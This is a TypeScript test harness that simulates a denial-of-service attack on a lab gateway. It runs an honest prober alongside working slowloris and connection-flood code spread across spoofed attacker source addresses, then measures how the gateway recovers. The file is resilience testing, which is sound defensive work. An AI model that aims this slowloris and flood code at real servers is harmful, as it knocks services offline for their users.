/**
 * The attacker and the honest client of test/lab/abuse.test.ts, in one
 * process run inside the lab's internet namespace (`node --import tsx`, no
 * imports from the project). Configuration: one JSON argument (AbuseConfig).
 * Output: one JSON line (AbuseResult).
 *
 * Phases (every number bounded by the configuration):
 *  1. baseline  `baselineMs`: the honest client alone requests exposure B (and A) every `probeEveryMs`;
 *  2. attack    `attackMs`: the same probes of B continue while
 *     - `slowloris` connections to the gateway (spread over the attacker addresses) send a
 *       request line and Host of exposure A, then one more header line every second, never ending
 *       the head (each is opened once; its close by the gateway is timed);
 *     - `floodConcurrency` workers open connection after connection (at most `floodMax` in all)
 *       with a complete request to exposure A, reading each answer;
 *  3. recovery: the attack stops (every attacker socket destroyed); exposure A is requested from
 *     the honest address and from an attacker address every 200 ms until it answers (at most
 *     `recoveryMs`).
 *
 * Raw sockets, `Connection: close`, one request per connection: no client-side pooling hides
 * anything. Lab safety: targets only the lab gateway's address given in the configuration.
 */
import net from 'node:net';

export interface AbuseConfig {
  gateway: string;
  port: number;
  hostA: string;
  expectA: string;
  hostB: string;
  expectB: string;
  /** Source addresses of the attacker (on the internet host). */
  attackers: string[];
  /** Source address of the honest client. */
  legit: string;
  baselineMs: number;
  attackMs: number;
  probeEveryMs: number;
  probeTimeoutMs: number;
  slowloris: number;
  floodConcurrency: number;
  floodMax: number;
  recoveryMs: number;
}

export interface Probe {
  phase: string;
  ok: boolean;
  status: number;
  ms: number;
  error?: string;
}

export interface AbuseResult {
  baseline: { a: Probe[]; b: Probe[] };
  attack: { b: Probe[] };
  slowloris: {
    connections: number;
    opened: number;
    connectErrors: number;
    closedByGatewayDuringAttack: number;
    closedAfterMs: number[];
    answers: Record<string, number>;
  };
  flood: {
    workers: number;
    connections: number;
    statuses: Record<string, number>;
    errors: Record<string, number>;
    ok200: number;
    attackMs: number;
    /** When the flood reached `floodMax` connections and stopped (ms into the attack); null: it ran the whole attack. */
    exhaustedAtMs: number | null;
  };
  recovery: { honest: { ms: number | null; tries: number }; attacker: { ms: number | null; tries: number } };
  after: { a: boolean[]; b: boolean[] };
}

interface Answer {
  status: number;
  ok: boolean;
  ms: number;
  error?: string;
}

const cfg = JSON.parse(process.argv[2] ?? '{}') as AbuseConfig;
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
const now = () => performance.now();

/** One HTTP/1.1 request on a fresh connection: status, whether the body has `expect`, time (ms). */
function request(host: string, localAddress: string, expect: string, timeoutMs: number): Promise<Answer> {
  return new Promise((resolve) => {
    const t0 = now();
    let data = '';
    let settled = false;
    const done = (r: Omit<Answer, 'ms'>) => {
      if (settled) return;
      settled = true;
      clearTimeout(timer);
      sock.destroy();
      resolve({ ...r, ms: now() - t0 });
    };
    const sock = net.connect({ host: cfg.gateway, port: cfg.port, localAddress });
    const timer = setTimeout(() => done({ status: 0, ok: false, error: 'timeout' }), timeoutMs);
    sock.setEncoding('latin1');
    sock.on('connect', () => sock.write(`GET / HTTP/1.1\r\nHost: ${host}\r\nUser-Agent: netwall-abuse-test\r\nConnection: close\r\n\r\n`));
    sock.on('data', (c: string) => (data += c));
    sock.on('error', (e: NodeJS.ErrnoException) => done({ status: 0, ok: false, error: e.code ?? e.message }));
    sock.on('close', () => {
      const status = Number(/^HTTP\/1\.[01] (\d{3})/.exec(data)?.[1] ?? 0);
      done({ status, ok: status === 200 && data.includes(expect), ...(status ? {} : { error: 'closed' }) });
    });
  });
}

/** Probes every `everyMs` from `start` until `until()` is false; each probe runs on its own (a slow one does not delay the next). */
async function probeLoop(host: string, expect: string, everyMs: number, until: () => boolean, out: Probe[], phase: string): Promise<void> {
  const pending: Promise<unknown>[] = [];
  while (until()) {
    pending.push(request(host, cfg.legit, expect, cfg.probeTimeoutMs).then((r) => out.push({ phase, ok: r.ok, status: r.status, ms: r.ms, ...(r.error ? { error: r.error } : {}) })));
    await sleep(everyMs);
  }
  await Promise.all(pending);
}

const baseline: AbuseResult['baseline'] = { a: [], b: [] };
const attackProbes: Probe[] = [];
const attackers = cfg.attackers;

// ---------------------------------------------------------------- 1. baseline
let end = now() + cfg.baselineMs;
await Promise.all([
  probeLoop(cfg.hostB, cfg.expectB, cfg.probeEveryMs, () => now() < end, baseline.b, 'baseline'),
  probeLoop(cfg.hostA, cfg.expectA, cfg.probeEveryMs * 2, () => now() < end, baseline.a, 'baseline'),
]);

// ---------------------------------------------------------------- 2. attack
let attacking = true;
const attackSockets = new Set<net.Socket>();

// Slowloris: heads that never end.
const slow = { opened: 0, connectErrors: 0, closedByGateway: 0, closedAfterMs: [] as number[], answers: {} as Record<string, number> };
const slowSockets: { sock: net.Socket; t0: number; n: number; first: string; connected: boolean }[] = [];
for (let i = 0; i < cfg.slowloris; i++) {
  const sock = net.connect({ host: cfg.gateway, port: cfg.port, localAddress: attackers[i % attackers.length] as string });
  attackSockets.add(sock);
  const s = { sock, t0: now(), n: 0, first: '', connected: false };
  sock.setEncoding('latin1');
  sock.on('connect', () => {
    s.connected = true;
    slow.opened++;
    sock.write(`GET / HTTP/1.1\r\nHost: ${cfg.hostA}\r\n`);
  });
  sock.on('data', (c: string) => (s.first += c));
  sock.on('error', () => {
    if (!s.connected) slow.connectErrors++;
  });
  sock.on('close', () => {
    attackSockets.delete(sock);
    if (attacking) {
      slow.closedByGateway++;
      slow.closedAfterMs.push(Math.round(now() - s.t0));
      const status = /^HTTP\/1\.[01] (\d{3})/.exec(s.first)?.[1] ?? 'none';
      slow.answers[status] = (slow.answers[status] ?? 0) + 1;
    }
  });
  slowSockets.push(s);
}
const trickle = setInterval(() => {
  for (const s of slowSockets) if (!s.sock.destroyed && s.sock.writable) s.sock.write(`X-Slow-${s.n++}: ${'a'.repeat(8)}\r\n`);
}, 1000);

// Flood: complete requests as fast as the workers can, to exposure A.
const flood = { started: 0, statuses: {} as Record<string, number>, errors: {} as Record<string, number>, ms: [] as number[], exhaustedAt: null as number | null };
async function floodWorker(i: number): Promise<void> {
  const from = attackers[i % attackers.length] as string;
  while (attacking && flood.started < cfg.floodMax) {
    flood.started++;
    if (flood.started === cfg.floodMax) flood.exhaustedAt = Math.round(now() - attackStart);
    const r = await request(cfg.hostA, from, cfg.expectA, 5000);
    if (r.status) flood.statuses[r.status] = (flood.statuses[r.status] ?? 0) + 1;
    else flood.errors[r.error ?? '?'] = (flood.errors[r.error ?? '?'] ?? 0) + 1;
    if (r.status === 200) flood.ms.push(r.ms);
  }
}

const attackStart = now();
end = attackStart + cfg.attackMs;
const workers = Array.from({ length: cfg.floodConcurrency }, (_, i) => floodWorker(i));
await probeLoop(cfg.hostB, cfg.expectB, cfg.probeEveryMs, () => now() < end, attackProbes, 'attack');
attacking = false;
clearInterval(trickle);
for (const s of attackSockets) s.destroy();
await Promise.all(workers);
const attackMs = now() - attackStart;

const slowloris: AbuseResult['slowloris'] = {
  connections: cfg.slowloris,
  opened: slow.opened,
  connectErrors: slow.connectErrors,
  closedByGatewayDuringAttack: slow.closedByGateway,
  closedAfterMs: slow.closedAfterMs.sort((a, b) => a - b),
  answers: slow.answers,
};
const floodResult: AbuseResult['flood'] = { workers: cfg.floodConcurrency, connections: flood.started, statuses: flood.statuses, errors: flood.errors, ok200: flood.ms.length, attackMs: Math.round(attackMs), exhaustedAtMs: flood.exhaustedAt };

// ---------------------------------------------------------------- 3. recovery
async function recover(localAddress: string): Promise<{ ms: number | null; tries: number }> {
  const t0 = now();
  let tries = 0;
  while (now() - t0 < cfg.recoveryMs) {
    tries++;
    const r = await request(cfg.hostA, localAddress, cfg.expectA, 3000);
    if (r.ok) return { ms: Math.round(now() - t0), tries };
    await sleep(200);
  }
  return { ms: null, tries };
}
const recovery = { honest: await recover(cfg.legit), attacker: await recover(attackers[0] as string) };
// A few more requests to both after recovery.
const after: AbuseResult['after'] = { a: [], b: [] };
for (let i = 0; i < 10; i++) {
  after.a.push((await request(cfg.hostA, cfg.legit, cfg.expectA, 3000)).ok);
  after.b.push((await request(cfg.hostB, cfg.legit, cfg.expectB, 3000)).ok);
}
const result: AbuseResult = { baseline, attack: { b: attackProbes }, slowloris, flood: floodResult, recovery, after };
process.stdout.write(`${JSON.stringify(result)}\n`);
process.exit(0);
